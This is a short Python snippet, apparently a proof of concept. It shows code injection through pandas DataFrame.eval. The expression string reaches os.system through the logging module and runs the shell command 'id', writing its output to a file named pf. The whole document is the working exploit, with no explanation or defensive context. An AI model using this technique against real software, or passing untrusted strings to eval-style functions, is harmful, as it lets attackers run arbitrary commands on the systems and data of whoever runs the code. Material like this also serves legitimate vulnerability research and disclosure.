import pandas as pd
import logging
pd.DataFrame({"a": [1]}).eval("b = @logging.os.system('id>pf')")
